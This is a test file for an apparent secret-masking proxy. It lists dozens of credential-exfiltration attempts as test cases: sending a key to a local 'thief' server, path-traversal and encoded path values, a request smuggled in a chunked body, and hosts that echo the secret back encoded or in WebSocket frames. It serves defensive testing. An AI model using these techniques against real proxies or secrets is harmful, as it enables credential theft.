import { once } from "node:events";
import type { RequestListener } from "node:http";
import { createServer } from "node:http";
import { connect as connectTls } from "node:tls";
import {
  brotliCompressSync,
  brotliDecompressSync,
  deflateSync,
  gunzipSync,
  gzipSync,
  inflateSync,
} from "node:zlib";
import { describe, expect, it } from "vitest";
import { clientContext } from "../inspection/trusted-roots.ts";
import { maskSecrets } from "./masked-secrets.ts";
import { encodings } from "./replacement.ts";
import { secretProviders } from "./secret-provider.ts";
import {
  createMaskedScene,
  createSecureUpstream,
  providerFor,
  request,
  SECRET,
} from "../../../../test/fixtures/inspection-scene.ts";
import {
  closeProxiesAfterEach,
  cleanups,
  collect,
  createProxy,
  dial,
  exchange,
  get,
  listen,
  socksRequest,
} from "../../../../test/fixtures/proxy-scene.ts";

closeProxiesAfterEach();

/** What is taken away to show that an attempt would succeed without it. */
type Protection = "masking" | "destinations" | "paths" | "restoring" | "certificates" | "tunnels";

/** Ways to get a secret out. Each returns everything that its author could see: answers, and what a thief was sent. */
interface Attempt {
  readonly name: string;
  readonly stoppedBy: Protection;
  /** The secret's own host, which may be careless, but is no thief. */
  readonly host?: RequestListener;
  /** What is wrong with the certificate of who answers there. */
  readonly foreign?: "name" | "authority";
  run(scene: Scene): Promise<string | readonly string[]>;
}

type Scene = Awaited<ReturnType<typeof openScene>>;

async function openScene(attempt: Attempt, without: Protection | undefined) {
  const stolen: string[] = [];
  const thief: RequestListener = (incoming, response) => {
    stolen.push([incoming.url, ...incoming.rawHeaders].join(" "));
    response.end("thanks");
  };
  const inClear = await listen(createServer(thief));
  const isOther = attempt.stoppedBy === "certificates" && without === undefined;
  let secure = 0;
  const scene = await createMaskedScene({
    ...(attempt.stoppedBy === "certificates" ? { answer: thief } : {}),
    ...(attempt.host === undefined ? {} : { answer: attempt.host }),
    ...(isOther && attempt.foreign === "name" ? { upstreamName: "thief.test" } : {}),
    isTrusted: !(isOther && attempt.foreign === "authority"),
    provider: (port) =>
      providerFor([
        `https://localhost:${port}${without === "paths" ? "" : "/v1"}`,
        ...(without === "destinations"
          ? [`http://127.0.0.1:${inClear}`, `https://localhost:${secure}`, `http://localhost:${inClear}`]
          : []),
      ]),
    before: async (foreign) => {
      secure = (await createSecureUpstream(foreign, thief)).port;
    },
    extra: {
      COPY: SECRET,
      URL: `https://me:${SECRET}@a.test/`,
      BASIC: Buffer.from(`me:${SECRET}`).toString("base64"),
      HEX: Buffer.from(SECRET).toString("hex"),
    },
  });
  if (without === "restoring") Object.defineProperty(scene.secrets, "restoring", { value: () => [] });
  const env = new Map(scene.env);
  if (without === "masking")
    for (const { from, to } of encodings(SECRET, scene.standIn))
      for (const [name, value] of env) env.set(name, value.replaceAll(to, from));
  const standIn = env.get("A_KEY") ?? "";
  const mask = (prefix: string) =>
    maskSecrets(new Map([["A_KEY", SECRET]]), {
      held: [],
      providers: secretProviders(new Map([["vendor", providerFor([prefix])]])),
    });
  const means = { authority: scene.own, trust: clientContext(scene.foreign.certificate) };
  return {
    ...scene,
    mask,
    means,
    without,
    env,
    standIn,
    bearer: `Authorization: Bearer ${standIn}`,
    stolen,
    inClear,
    secure,
  };
}

/** A host that answers with what it was sent, in some form. */
const repeats =
  (
    form: (sent: string) => string | Buffer,
    headers: Record<string, string> = {},
    status = 200,
  ): RequestListener =>
  (incoming, response) => {
    response.writeHead(status, headers);
    response.end(form(incoming.headers.authorization ?? ""));
  };
const as = (encoding: BufferEncoding) => (sent: string) => Buffer.from(sent).toString(encoding);
const same = (sent: string) => sent;

const fromEnvironment = (name: string): Attempt => ({
  name: `reads ${name}`,
  stoppedBy: "masking",
  run: async ({ env }) => env.get(name) ?? "",
});

const byPath = (path: string): Attempt => ({
  name: `asks for ${path}, where others may write`,
  stoppedBy: "paths",
  host: (incoming, response) =>
    response.end(as("base64url")(`x${incoming.headers.authorization}`).slice(0, 1)),
  run: async ({ ask, bearer, upstream }) => {
    const seen: string[] = [];
    upstream.http.on("request", (incoming) => seen.push(incoming.headers.authorization ?? ""));
    await ask(path, [bearer]);
    return seen;
  },
});

const byAnswer = (name: string, host: RequestListener, headers: readonly string[] = []): Attempt => ({
  name: `has the host repeat it ${name}`,
  stoppedBy: "restoring",
  host,
  run: ({ ask, bearer }) => ask("/v1", [bearer, ...headers]),
});

/** A host that publishes what it was sent, and a stand-in in a place that the provider does not name. */
const published = (name: string, send: (scene: Scene) => Promise<unknown>): Attempt => ({
  name: `has the host publish ${name}`,
  stoppedBy: "masking",
  run: async (scene) => {
    const seen: string[] = [];
    scene.upstream.http.on("request", (incoming, response) => {
      seen.push([incoming.url, ...incoming.rawHeaders].join(" "));
      incoming.on("data", (bytes: Buffer) => seen.push(bytes.toString()));
      incoming.on("end", () => seen.push(incoming.rawTrailers.join(" ")));
      response.on("error", () => {});
    });
    await send(scene);
    return seen;
  },
});

const raw = async ({ tunnel }: Scene, text: string): Promise<string> => {
  const socket = await tunnel();
  socket.write(text);
  return collect(socket);
};

/** What a host that has switched to WebSockets sends, whose answer to the request is `head`. */
const byMessages = (name: string, send: (sent: string) => Buffer[], head = ""): Attempt => ({
  name: `has the host repeat it in a WebSocket, ${name}`,
  stoppedBy: "restoring",
  run: async ({ tunnel, upstream, bearer }) => {
    upstream.http.on("upgrade", (incoming, socket) => {
      const sent = incoming.headers.authorization ?? "";
      const lines = ["HTTP/1.1 101 Switching Protocols", "Connection: Upgrade", "Upgrade: websocket"];
      socket.write([...lines, `X: ${head && sent}`, "", ""].join("\r\n"));
      for (const bytes of send(sent)) socket.write(bytes);
      setImmediate(() => socket.end());
    });
    const socket = await tunnel();
    const text = request(`localhost:${upstream.port}`, "/v1", [bearer]);
    socket.write(text.replace("Connection: close", "Connection: Upgrade\r\nUpgrade: websocket"));
    return collect(socket);
  },
});
const frame = (first: number, text: string): Buffer =>
  Buffer.concat([Buffer.from([first, text.length]), Buffer.from(text)]);

const attempts: readonly Attempt[] = [
  ...["A_KEY", "COPY", "URL", "BASIC", "HEX", "CODEX_NETWORK_PROXY_BROKERED_CREDENTIALS"].map(
    fromEnvironment,
  ),
  {
    name: "sends it in clear",
    stoppedBy: "destinations",
    run: ({ http, inClear, bearer }) => exchange(http, get(`http://localhost:${inClear}/`, [bearer])),
  },
  {
    name: "sends it to an address",
    stoppedBy: "destinations",
    run: ({ http, inClear, bearer }) => exchange(http, get(`http://127.0.0.1:${inClear}/`, [bearer])),
  },
  {
    name: "sends it to another port",
    stoppedBy: "destinations",
    run: async ({ tunnel, secure, bearer }) => {
      const socket = await tunnel("localhost", secure);
      socket.write(request(`localhost:${secure}`, "/", [bearer]));
      return collect(socket);
    },
  },
  {
    name: "sends it through SOCKS",
    stoppedBy: "destinations",
    run: async ({ socks, secure, bearer, own, foreign }) => {
      const raw = dial(socks);
      const hello = socksRequest("localhost", secure);
      raw.write(hello.subarray(0, 3));
      await once(raw, "data");
      raw.write(hello.subarray(3));
      await once(raw, "data");
      const ca = [own.certificate, foreign.certificate];
      const socket = connectTls({ socket: raw, servername: "localhost", ca });
      cleanups.unshift(() => socket.destroy());
      await once(socket, "secureConnect");
      socket.write(request(`localhost:${secure}`, "/", [bearer]));
      return collect(socket);
    },
  },
  {
    name: "follows a redirect with it",
    stoppedBy: "destinations",
    host: (incoming, response) => {
      response.writeHead(302, { location: String(incoming.headers["x-thief"]) });
      response.end();
    },
    run: async ({ ask, http, inClear, bearer }) => {
      const answer = await ask("/v1", [bearer, `X-Thief: http://localhost:${inClear}/caught`]);
      const [, location = ""] = /location: (\S+)/i.exec(answer) ?? [];
      return exchange(http, get(location, [bearer]));
    },
  },
  {
    name: "upgrades the connection to a thief",
    stoppedBy: "destinations",
    run: ({ http, inClear, bearer }) =>
      exchange(
        http,
        get(`http://localhost:${inClear}/`, [bearer]).replace(
          "Connection: close",
          "Connection: Upgrade\r\nUpgrade: x",
        ),
      ),
  },
  ...["/", "/v2", "/v10", "/V1", "/v1/../x", "/v1/..", "/v1/./../x", "/v1/%2e%2e/x", "/v1/.%2E/x"].map(
    byPath,
  ),
  ...["/v1/..;/x", "/v1/..%3b/x", "/v1/..%00/x", "/v1/...", "/v1/%252e%252e/x"].map(byPath),
  ...["/v1/%c0%ae%c0%ae/x", "/v1/%252fx", "/v1/.;/x"].map(byPath),
  ...["/v1//x", "/v1/..%2fx", "/v1/%5c..%5cx", "/v1/..\\x", "/x/v1", "/?/v1"].map(byPath),
  byAnswer("as it is", repeats(same)),
  byAnswer("in an error page", repeats(same, {}, 500)),
  byAnswer("in a message about a wrong address", repeats(same, {}, 404)),
  byAnswer("in base64", repeats(as("base64"))),
  byAnswer("in base64 for URLs", repeats(as("base64url"))),
  byAnswer(
    "in base64, moved by one byte",
    repeats((sent) => as("base64")(` ${sent}`)),
  ),
  byAnswer(
    "in base64, moved by two bytes",
    repeats((sent) => as("base64")(`  ${sent}`)),
  ),
  byAnswer("in hexadecimal digits", repeats(as("hex"))),
  byAnswer(
    "in large hexadecimal digits",
    repeats((sent) => as("hex")(sent).toUpperCase()),
  ),
  byAnswer(
    "with gzip",
    repeats((sent) => gzipSync(sent), { "content-encoding": "gzip" }),
  ),
  byAnswer(
    "with deflate",
    repeats((sent) => deflateSync(sent), { "content-encoding": "deflate" }),
  ),
  byAnswer(
    "with brotli",
    repeats((sent) => brotliCompressSync(sent), { "content-encoding": "BR" }),
  ),
  byAnswer("with its length", (incoming, response) => {
    const sent = incoming.headers.authorization ?? "";
    response.writeHead(200, { "content-length": sent.length });
    response.end(sent);
  }),
  byAnswer("in a header", (incoming, response) => {
    response.writeHead(200, { "x-sent": incoming.headers.authorization ?? "" });
    response.end();
  }),
  byAnswer("in the name of a header", (incoming, response) => {
    response.writeHead(200, { [(incoming.headers.authorization ?? "").slice("Bearer ".length)]: "1" });
    response.end();
  }),
  byAnswer("in a cookie", (incoming, response) => {
    response.writeHead(200, { "set-cookie": [`a=b`, `k=${incoming.headers.authorization}`] });
    response.end();
  }),
  byAnswer("in a redirect", (incoming, response) => {
    response.writeHead(302, { location: `/?${incoming.headers.authorization}` });
    response.end();
  }),
  byAnswer(
    "with x-gzip, in base64",
    repeats((sent) => gzipSync(as("base64")(sent)), { "content-encoding": "x-gzip" }),
  ),
  byAnswer(
    "as an event of a stream",
    repeats((sent) => `data: ${sent}\n\n`, { "content-type": "text/event-stream" }),
  ),
  byAnswer("byte by byte", (incoming, response) => {
    const bytes = Array.from(incoming.headers.authorization ?? "");
    const next = (): void => {
      const byte = bytes.shift();
      if (byte === undefined) response.end();
      else response.write(byte, () => setImmediate(next));
    };
    next();
  }),
  byAnswer(
    "at the end of a long answer",
    repeats((sent) => "x".repeat(100_000) + sent),
  ),
  byAnswer("to a request for a part of it", repeats(same), [
    "Range: bytes=0-40",
    "Request-Range: bytes=0-40",
  ]),
  {
    name: "has the host repeat it in a header of an answer without a body",
    stoppedBy: "restoring",
    host: (incoming, response) => {
      response.writeHead(200, { "x-sent": incoming.headers.authorization ?? "" });
      response.end();
    },
    run: ({ ask, bearer }) => ask("/v1", [bearer], "HEAD"),
  },
  byAnswer("to an upgrade that it ignores", repeats(same), [
    "Upgrade: h2c",
    "Connection: Upgrade, HTTP2-Settings",
    "HTTP2-Settings: AA",
  ]),
  byAnswer("in two pieces", (incoming, response) => {
    const sent = incoming.headers.authorization ?? "";
    response.write(sent.slice(0, 15));
    setImmediate(() => response.end(sent.slice(15)));
  }),
  byAnswer(
    "after the beginning of another one",
    repeats((sent) => `k-abc${sent}${sent.slice(7)}`),
  ),
  {
    name: "has the host repeat what an earlier request sent",
    stoppedBy: "restoring",
    host: (() => {
      let last = "";
      return (incoming, response) => {
        response.end(last);
        last = incoming.headers.authorization ?? last;
      };
    })(),
    run: async ({ ask, bearer }) => [await ask("/v1", [bearer]), await ask("/elsewhere")],
  },
  {
    name: "has the host repeat the secret among pipelined requests",
    stoppedBy: "restoring",
    host: repeats(same),
    run: async ({ tunnel, upstream, bearer }) => {
      const host = `localhost:${upstream.port}`;
      const socket = await tunnel();
      const open = `GET /v1 HTTP/1.1\r\nHost: ${host}\r\n${bearer}\r\n\r\n`;
      socket.write(open + open + request(host, "/v1", [bearer]));
      return collect(socket);
    },
  },
  byMessages("in one message", (sent) => [frame(0x81, sent)]),
  byMessages("in fragments", (sent) => [
    frame(0x01, sent.slice(0, 15)),
    frame(0x89, "alive"),
    frame(0x00, sent.slice(15, 20)),
    frame(0x80, sent.slice(20)),
  ]),
  byMessages("in a ping", (sent) => [frame(0x89, sent)]),
  byMessages("in the reason of its end", (sent) => [frame(0x88, `..${sent}`)]),
  byMessages("in the head of its answer", () => [], "sent"),
  published("a body", ({ ask, standIn }) => ask("/v1", [], "POST", `key=${standIn}`)),
  published("a query", ({ ask, standIn }) => ask(`/v1?key=${standIn}`)),
  published("a path", ({ ask, standIn }) => ask(`/v1/${standIn}`)),
  published("a cookie", ({ ask, standIn }) => ask("/v1", [`Cookie: key=${standIn}`])),
  published("another header", ({ ask, standIn }) => ask("/v1", [`X-Other: ${standIn}`])),
  published("a request that is hidden in a body", (scene) => {
    const host = `localhost:${scene.upstream.port}`;
    const hiddenRequest = request(host, "/v1", [scene.bearer]);
    const size = Buffer.byteLength(hiddenRequest).toString(16);
    return raw(
      scene,
      `POST /v1 HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\nTransfer-Encoding: chunked\r\n\r\n${size}\r\n${hiddenRequest}\r\n0\r\n\r\n`,
    );
  }),
  ...(["HTTP", "SOCKS"] as const).map(
    (through): Attempt => ({
      name: `has a host in clear repeat it in a tunnel through the ${through} proxy`,
      stoppedBy: "tunnels",
      run: async (scene) => {
        let last = "";
        const port = await listen(
          createServer((incoming, response) => {
            response.end(last);
            last = incoming.headers.authorization ?? last;
          }),
        );
        const masked = scene.mask(`http://localhost:${port}`);
        const { http, socks } = await createProxy({
          names: { localhost: ["127.0.0.1"] },
          hidden: { secrets: masked.secrets, means: scene.means },
        });
        if (scene.without === "tunnels") masked.secrets.isInClear = () => false;
        const bearer = `Authorization: Bearer ${masked.env.get("A_KEY")}`;
        await exchange(http, get(`http://localhost:${port}/`, [bearer]));
        const socket = dial(through === "HTTP" ? http : socks);
        const hello = socksRequest("localhost", port);
        const opening =
          through === "HTTP"
            ? [`CONNECT 127.0.0.1:${port} HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\n\r\n`]
            : [hello.subarray(0, 3), hello.subarray(3)];
        for (const bytes of opening) {
          socket.write(bytes);
          await once(socket, "data");
        }
        socket.write(request(`localhost:${port}`, "/"));
        return collect(socket);
      },
    }),
  ),
  ...(["name", "authority"] as const).map(
    (foreign): Attempt => ({
      name: `has the name of the host lead to a thief, whose certificate has another ${foreign}`,
      stoppedBy: "certificates",
      foreign,
      run: ({ ask, bearer }) => ask("/v1", [bearer]),
    }),
  ),
];

/** A compressed body as it was; empty if it is none. */
function unpacked(answer: string): string {
  const end = answer.indexOf("\r\n\r\n") + 4;
  const whole = answer.slice(end);
  const body = Buffer.from(/^[0-9a-f]+\r\n([^]*)\r\n0\r\n\r\n$/.exec(whole)?.[1] ?? whole, "latin1");
  return [gunzipSync, inflateSync, brotliDecompressSync]
    .map((decompress) => {
      try {
        return decompress(body).toString();
      } catch {
        return "";
      }
    })
    .join("");
}

/** Whether somebody could reconstruct the secret from a text. */
function gives(text: string): boolean {
  const core = SECRET.slice(3, -3);
  // Chunks, and frames of a WebSocket with a ping between them.
  const folded = text
    .replaceAll(/\r\n[0-9a-f]+\r\n/g, "")
    .replaceAll("\x89\x05alive", "")
    .replaceAll(/(?<=[a-z])[^\n-~]\W/g, "");
  const decoded = [0, 1, 2, 3].flatMap((skipped) =>
    (folded.match(/[\w+/-]{12,}/g) ?? []).flatMap((word) =>
      (["base64", "hex"] as const).map((form) => Buffer.from(word.slice(skipped), form).toString("latin1")),
    ),
  );
  return [folded, ...decoded].some((each) => each.includes(core));
}

describe("a process that wants to get a secret out", () => {
  it.each(attempts)("$name: not possible because of $stoppedBy", async (attempt) => {
    for (const without of [undefined, attempt.stoppedBy]) {
      const scene = await openScene(attempt, without);
      const seen = [await attempt.run(scene), scene.stolen, JSON.stringify(scene.decisions)].flat();
      expect([without, gives([...seen, ...seen.map(unpacked)].join("\n"))]).toEqual([
        without,
        without !== undefined,
      ]);
    }
  });

  it("has many ways to try", () => {
    expect(attempts.length).toBeGreaterThanOrEqual(70);
    expect(new Set(attempts.map(({ name }) => name)).size).toBe(attempts.length);
  });
});
